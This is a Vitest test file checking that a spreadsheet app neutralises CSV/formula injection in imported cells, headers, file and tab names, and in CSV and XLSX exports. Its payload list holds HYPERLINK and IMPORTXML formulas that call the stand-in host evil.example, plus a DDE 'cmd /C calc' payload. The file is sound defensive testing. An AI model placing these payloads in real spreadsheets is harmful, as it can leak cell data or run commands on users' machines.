import { unzipSync } from "fflate";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { writeCsv } from "../../src/playground/files/csv.ts";
import { writeXlsx } from "../../src/playground/files/xlsx.ts";
import { createWorkbook, loadWorkbook } from "../../src/playground/model/workbook.ts";
import { open, type Place, runAll, shownBy, stateOf } from "../faults/place.ts";
import { smallTracker } from "../faults/tool-inputs.ts";

beforeAll(() => {
	vi.useFakeTimers({ toFake: ["Date"], now: Date.parse("2026-11-23T10:00:00Z") });
});
afterAll(() => {
	vi.useRealTimers();
});

/** First characters that make spreadsheet programs compute a text: OWASP's CSV injection page, and what hides them. */
const LEADS = [
	"=",
	"+",
	"-",
	"@",
	"\t=",
	"\r=",
	"\n=",
	"＝",
	"＋",
	"－",
	"＠",
	"'=",
	'"=',
	" =",
	"\u00a0=",
	"\u200b=",
	"\ufeff=",
	"\u0000=",
	"|=",
	";=",
	"%=",
];
const PAYLOADS = [
	"1+1",
	'HYPERLINK("https://evil.example?x="&A1;"open")',
	"cmd|' /C calc'!A0",
	'IMPORTXML("https://evil.example";"//a")',
];
const HOSTILE = LEADS.flatMap((lead) => PAYLOADS.map((payload) => lead + payload));

const HEADER = ["Username", "Platform", "Niche", "Notes", "Package"];

function tracker(): Place {
	const place = open({ workbook: createWorkbook().snapshot(), properties: {}, documents: [] });
	runAll(place, "set-up-tracker", { sample: false }, "set-up-run");
	return place;
}

function formulasOf(place: Place): string[] {
	return stateOf(place).workbook.sheets.flatMap(({ cells }) =>
		Object.values(cells).flatMap((line) =>
			Object.values(line).flatMap((content) =>
				typeof content === "object" && content !== null ? [content.formula] : [],
			),
		),
	);
}

/** As a spreadsheet program decides it; numbers and handles compute nothing. */
function computes(cell: string): boolean {
	return /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^(?:[+-]?[\d\s.,%()/-]*|@[\w.]+)$/.test(cell);
}

const rowsWith = (texts: readonly string[]) =>
	texts.map((text, index) => [`creator${index}`, "TikTok", text, `${text} `, text]);

describe.each([
	{ path: "in the cells of a file", rows: [HEADER, ...rowsWith(HOSTILE)], source: "list.csv" },
	{
		path: "in the headers of a file",
		rows: [
			[...HEADER, ...HOSTILE],
			["mara", "TikTok", ...HOSTILE.map(() => "x")],
		],
		source: "list.csv",
	},
	{
		path: "in the handles of a file",
		rows: [HEADER, ...HOSTILE.map((text) => [text, "TikTok", "", "", ""])],
		source: "list.csv",
	},
	{ path: "in the name of a file", rows: [HEADER, ["mara", "TikTok", "", "", ""]], source: HOSTILE[1]! },
])("formulas $path", ({ rows, source }) => {
	test("become no formula in any cell, and none in exported .csv and .xlsx files", async () => {
		const place = tracker();
		const before = formulasOf(place);
		runAll(place, "import-creators", { from: { source, rows } }, "import-run");
		expect(formulasOf(place)).toEqual(before);
		expect(place.workbook.sheet("Roster")!.used().rows).toBeGreaterThan(1);
		await expectHarmlessExports(place, before);
	});
});

test("a tab with such a name and such cells is read, and computes nothing elsewhere", async () => {
	const place = tracker();
	const before = formulasOf(place);
	for (const [index, name] of [
		"=1+1",
		"+1+1",
		"-1+1",
		"@SUM(1)",
		"＝1+1",
		"'=1+1",
		'"=1+1',
		" =1+1",
	].entries()) {
		const { id } = place.workbook.insertSheet(name);
		const sheet = place.workbook.sheet(id)!;
		place.workbook.setContents(id, 0, 0, [HEADER, ...rowsWith(HOSTILE.slice(index, index + 2))]);
		runAll(place, "import-creators", { from: { tab: sheet.name } }, `import-run-${index}`);
	}
	expect(formulasOf(place)).toEqual(before);
	await expectHarmlessExports(place, before);
});

test("documents get text, and links to them are no formulas", async () => {
	const place = open(smallTracker());
	const before = formulasOf(place);
	const { id } = place.workbook.sheet("Campaign")!;
	for (const row of [1, 2, 6, 7, 8]) place.workbook.setContents(id, row, 1, [[HOSTILE[row]!]]);
	const shown = shownBy(place, "write-briefs", {});
	expect(shown.items.map(({ kind }) => kind)).toContain("write-document");
	runAll(place, "write-briefs", {}, "briefs-run");
	const added = formulasOf(place).filter((formula) => !before.includes(formula));
	expect(added).toEqual([]);
	expect(place.documents.all.map(({ title }) => title).join()).toContain("=HYPERLINK");
	await expectHarmlessExports(place, before);
});

async function expectHarmlessExports(place: Place, ours: readonly string[]): Promise<void> {
	for (const sheet of place.workbook.sheets) {
		const { data } = Papa.parse<string[]>(writeCsv(sheet).replace(/^\ufeff/, ""));
		expect(data.flat().filter(computes), `${sheet.name} as .csv`).toEqual([]);
	}
	const parts = unzipSync(await writeXlsx(loadWorkbook(place.workbook.snapshot())));
	const xml = Object.entries(parts).filter(([name]) => /^xl\/worksheets\/[^/]+\.xml$/.test(name));
	expect(xml.length).toBeGreaterThanOrEqual(place.workbook.sheets.length);
	const formulas = xml.flatMap(([, bytes]) => formulasIn(new TextDecoder().decode(bytes)));
	const filledIn = formulas.filter((formula) => formula.includes(FILLED_IN));
	expect(formulas.length - filledIn.length).toBeLessThanOrEqual(ours.length);
	expect(formulas.filter((formula) => formula.includes("DUMMYFUNCTION") && !INERT.test(formula))).toEqual([]);
}

/** What an array formula fills in is written as Google's download does: a value in a formula that says nothing else. */
const FILLED_IN = 'DUMMYFUNCTION("""COMPUTED_VALUE""")';
const INERT =
	/^IFERROR\(__xludf\.DUMMYFUNCTION\("(?:[^"]|""|"&")*"\),(?:-?[\d.e+-]+|TRUE|FALSE|#[A-Z/0!?]+|"(?:[^"]|""|"&")*")\)$/;

function formulasIn(sheet: string): string[] {
	const characters: Record<string, string> = { quot: '"', apos: "'", amp: "&", lt: "<", gt: ">" };
	const text = (xml: string) => xml.replace(/&(\w+);/g, (_, name: string) => characters[name] ?? "?");
	const opened = sheet.match(/<f[ >]/g)?.length ?? 0;
	const found = [...sheet.matchAll(/<f(?: [^>]*)?>([^<]*)<\/f>/g)].map(([, formula]) => text(formula!));
	expect(found.length).toBe(opened);
	return found;
}
